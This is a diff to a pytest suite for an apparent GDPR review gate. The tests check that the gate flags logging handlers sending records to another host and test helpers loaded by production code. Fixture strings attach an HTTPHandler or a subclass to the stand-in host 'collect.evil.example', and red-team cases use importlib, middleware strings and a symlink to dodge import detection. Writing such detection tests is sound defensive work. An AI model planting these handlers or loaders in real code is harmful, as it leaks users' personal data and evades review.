@@ -504,21 +504,33 @@ def notify(customer):
 '''
 
 
-def test_a_log_handler_that_sends_the_records_to_another_host(repo, monkeypatch, keys):
+SHIPPING = ("import logging.handlers\n\n\nclass Shipper(logging.handlers.HTTPHandler):\n    pass\n\n\n"
+            "class Console(logging.StreamHandler):\n    pass\n")
+
+
+@pytest.mark.parametrize("logconf, says", [
+    ('import logging.handlers\nlogging.getLogger("shop").addHandler(logging.handlers.HTTPHandler('
+     '"collect.evil.example", "/logs", secure=True))\n', "sent to collect.evil.example by HTTPHandler"),
+    # the project's subclass, defined in another module (red team, round four)
+    ('import logging\nfrom shop.shipping import Shipper\n\nlogging.getLogger().addHandler(Shipper('
+     '"collect.evil.example", "/logs"))\n', "sent to collect.evil.example by Shipper (a subclass of HTTPHandler)"),
+])
+def test_a_log_handler_that_sends_the_records_to_another_host(repo, monkeypatch, keys, logconf, says):
     write(repo, "shop/notify.py", SAYS_LOGS_STAY)
+    write(repo, "shop/shipping.py", SHIPPING)
     commit_all(repo, "notify")
     approve(monkeypatch, repo, keys)
-    write(repo, "shop/logconf.py", 'import logging.handlers\nlogging.getLogger("shop").addHandler(logging.handlers.'
-                                   'HTTPHandler("collect.evil.example", "/logs", secure=True))\n')
+    write(repo, "shop/logconf.py", logconf)
     commit_all(repo, "ship the logs")
     assert_stale(monkeypatch, repo, keys)
     (found,) = [f for f in review(monkeypatch, repo)["findings"] if f["path"] == "shop/logconf.py"]
-    assert found["code"] == "GDPR303" and "sent to collect.evil.example by HTTPHandler" in found["message"]
+    assert found["code"] == "GDPR303" and says in found["message"]
 
 
 def test_log_handlers_that_keep_the_records_here_pass_the_gate(repo, monkeypatch, keys):
     write(repo, "shop/notify.py", SAYS_LOGS_STAY)
     write(repo, "shop/transport.py", "class HTTPHandler:\n    def __init__(self, host, url):\n        self.host = host\n")
+    write(repo, "shop/shipping.py", SHIPPING)
     write(repo, ".gdpr-lint.yaml", "first_party_domains: [shop.example]\n")
     commit_all(repo, "notify")
     approve(monkeypatch, repo, keys)
@@ -526,9 +538,11 @@ def test_log_handlers_that_keep_the_records_here_pass_the_gate(repo, monkeypatch
 import logging
 import logging.handlers
 from shop.transport import HTTPHandler
+from shop.shipping import Console
 
 root = logging.getLogger("shop")
 root.addHandler(logging.StreamHandler())
+root.addHandler(Console())
 root.addHandler(logging.FileHandler("shop.log"))
 root.addHandler(logging.handlers.RotatingFileHandler("shop.log", maxBytes=1_000_000))
 root.addHandler(logging.handlers.SysLogHandler())
@@ -557,3 +571,22 @@ def test_test_code_that_production_code_imports(repo, monkeypatch, keys):
     doc = review(monkeypatch, repo)
     assert "GDPR301" in codes_at(doc, "shop/factories.py")
     assert "shop/factories.py" not in [d["path"] for d in doc["not_analysed"]]
+
+
+# ---- red team, round four: test code loaded without an import statement, handlers named otherwise ----
+
+@pytest.mark.parametrize("helper,change", [
+    ("shop/factories.py", ("shop/api.py", 'import importlib\n\nnotify = importlib.import_module("shop.factories").notify\n')),
+    ("shop/testing/middleware.py", ("shop/settings.py", 'MIDDLEWARE = ["shop.testing.middleware.notify"]\n')),
+    ("tests/pkg/notify.py", ("shop/api.py", "from shop.ext.notify import notify\n")),  # shop/ext -> ../tests/pkg
+])
+def test_test_code_that_production_code_loads_without_an_import_statement(repo, monkeypatch, keys, helper, change):
+    write(repo, helper, LEAK)
+    if helper.startswith("tests/pkg/"):
+        (repo / "shop" / "ext").symlink_to("../tests/pkg")
+    commit_all(repo, "test helpers")
+    approve(monkeypatch, repo, keys)
+    write(repo, *change)
+    commit_all(repo, "production uses a test helper")
+    assert_stale(monkeypatch, repo, keys)
+    assert "GDPR301" in codes_at(review(monkeypatch, repo), helper)
